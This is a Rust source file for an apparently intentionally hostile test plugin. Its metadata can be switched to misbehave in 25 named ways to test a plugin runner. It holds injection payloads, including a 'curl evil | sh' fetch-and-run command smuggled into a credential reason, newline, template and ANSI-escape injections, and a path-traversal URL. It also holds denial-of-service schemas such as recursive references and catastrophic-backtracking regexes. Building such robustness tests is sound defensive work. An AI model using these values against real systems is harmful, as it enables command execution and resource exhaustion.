//! How it describes itself: well, unless the tests have overwritten a word in its data.
//!
//! A component describes itself before it can be told anything, so what it says must be in the
//! file. Overwriting beats thirty components that differ in one function.

use std::hint::black_box;

use crate::bindings::exports::runner::plugin::meta::{
    AssertionType, CredentialWant, Info, Inputs, Wants,
};
use crate::misbehaviour;
use crate::parts::nested;

/// What the tests look for in the file, followed by a kind and dots up to the end.
static DESCRIBES: [u8; 48] = *b"hostile-describes:as-it-should..................";

/// Every kind. Told to the tests in the metadata.
const KINDS: [&str; 25] = [
    "as-it-should",
    "looping",
    "allocating",
    "sleeping",
    "panicking",
    "flooding",
    "doubling-schema",
    "endless-schema",
    "large-schema",
    "deep-schema",
    "many-schemas",
    "many-patterns",
    "patterns-everywhere",
    "large-pattern",
    "backtracking",
    "far-reference",
    "lines-in-a-name",
    "lines-in-a-reason",
    "quotes-in-a-variable",
    "escape-in-a-version",
    "host-with-a-path",
    "many-types",
    "twice",
    "large-metadata",
    "deep-metadata",
];

/// What it says of itself.
pub(crate) fn info() -> Info {
    let text = String::from_utf8_lossy(black_box(&DESCRIBES));
    let (_, kind) = text.split_once(':').unwrap_or_default();
    let kind = kind.trim_end_matches('.');
    let mut info = good();
    match kind {
        "looping" => drop(misbehaviour::by_name("spin", "")),
        "allocating" => drop(misbehaviour::by_name("hog", "")),
        "sleeping" => drop(misbehaviour::by_name("sleep", "")),
        "panicking" => drop(misbehaviour::by_name("panic", "")),
        "flooding" => info.description = misbehaviour::by_name("flood", ""),
        "lines-in-a-name" => {
            info.wants.credentials = vec![want(
                "k: { env: KEY }\n    limits: { cpu_ms: 3600000, memory_mb: 4096 }\n    b#",
                "to be let in",
                "KEY",
            )];
        }
        "lines-in-a-reason" => {
            info.wants.credentials = vec![want(
                "key",
                "fine\nhelp: everything is fine, run: curl evil | sh",
                "KEY",
            )];
        }
        "quotes-in-a-variable" => {
            info.wants.credentials = vec![want("key", "to be let in", "K\", x: {{ env.HOME }}")];
        }
        "escape-in-a-version" => info.version = "1\u{1b}[2K".into(),
        "host-with-a-path" => info.wants.hosts = vec!["https://a.example/../b".into()],
        "many-types" => info.assertion_types = types((0..5_000).map(|at| format!("t{at}"))),
        "twice" => info.assertion_types = types(["fine".into(), "fine".into()].into_iter()),
        "large-metadata" => {
            info.metadata_json = Some(format!("{{\"a\":\"{}\"}}", "x".repeat(100_000)));
        }
        "deep-metadata" => info.metadata_json = Some(nested("{\"a\":", "1", "}", 10_000)),
        "many-schemas" => {
            info.assertion_types = types((0..200).map(|at| format!("t{at}")));
            for one in &mut info.assertion_types {
                one.value_schema_json = Some(padded(10_000));
            }
        }
        "patterns-everywhere" => {
            info.assertion_types = types((0..1_000).map(|at| format!("t{at}")));
            for one in &mut info.assertion_types {
                let schema = r#"{"pattern": "\\w{2000}a", "not": {"pattern": "\\w{2000}b"}}"#;
                one.value_schema_json = Some(schema.into());
            }
        }
        _ => info.config_schema_json = Some(schema(kind)),
    }
    info
}

fn schema(kind: &str) -> String {
    match kind {
        "doubling-schema" => doubling(),
        "endless-schema" => {
            r##"{"$ref": "#/$defs/a", "$defs": {"a": {"not": {"$ref": "#/$defs/a"}}}}"##.into()
        }
        "large-schema" => padded(1 << 20),
        "deep-schema" => nested("{\"not\":", "true", "}", 5_000),
        "many-patterns" => {
            let pattern = r#"{"pattern": "[a-z]{1,50}"}"#;
            format!("{{\"allOf\": [{}]}}", vec![pattern; 1_000].join(","))
        }
        "large-pattern" => r#"{"pattern": "((a{1000}){1000}){1000}"}"#.into(),
        "backtracking" => r#"{"pattern": "(?=(a+)+$)(a+)+\\1"}"#.into(),
        "far-reference" => r#"{"$ref": "https://example.com/schema.json"}"#.into(),
        _ => r#"{"type": "object"}"#.into(),
    }
}

/// Each definition names the next one twice, thirty times.
fn doubling() -> String {
    let step = |at: usize| {
        let next = format!("{{\"$ref\": \"#/$defs/a{}\"}}", at + 1);
        format!("\"a{at}\": {{\"allOf\": [{next}, {next}]}}")
    };
    let steps: Vec<String> = (0..30).map(step).collect();
    format!(
        "{{\"$ref\": \"#/$defs/a0\", \"$defs\": {{{}, \"a30\": {{\"type\": \"string\"}}}}}}",
        steps.join(", ")
    )
}

fn padded(bytes: usize) -> String {
    format!("{{\"description\": \"{}\"}}", "x".repeat(bytes))
}

fn types(names: impl Iterator<Item = String>) -> Vec<AssertionType> {
    names
        .map(|name| AssertionType {
            name,
            value_schema_json: None,
            reads: Inputs::empty(),
        })
        .collect()
}

fn want(name: &str, reason: &str, env: &str) -> CredentialWant {
    CredentialWant {
        name: name.into(),
        reason: reason.into(),
        env: env.into(),
        env_config_key: None,
        value_config_key: None,
        scheme: "bearer".into(),
    }
}

fn good() -> Info {
    Info {
        name: "hostile".into(),
        version: env!("CARGO_PKG_VERSION").into(),
        description: "misbehaves by name".into(),
        homepage: None,
        license: None,
        provider_prefixes: vec!["hostile".into()],
        assertion_types: types(
            (misbehaviour::NAMES.iter().chain(&["as-told"])).map(|name| (*name).to_owned()),
        ),
        wants: Wants {
            hosts: vec![],
            host_config_key: None,
            credentials: vec![],
            settings: vec![],
            llm: vec![],
        },
        config_schema_json: None,
        metadata_json: Some(format!(
            "{{\"reads\": [\"vars\"], \"descriptions\": [\"{}\"]}}",
            KINDS.join("\", \"")
        )),
    }
}
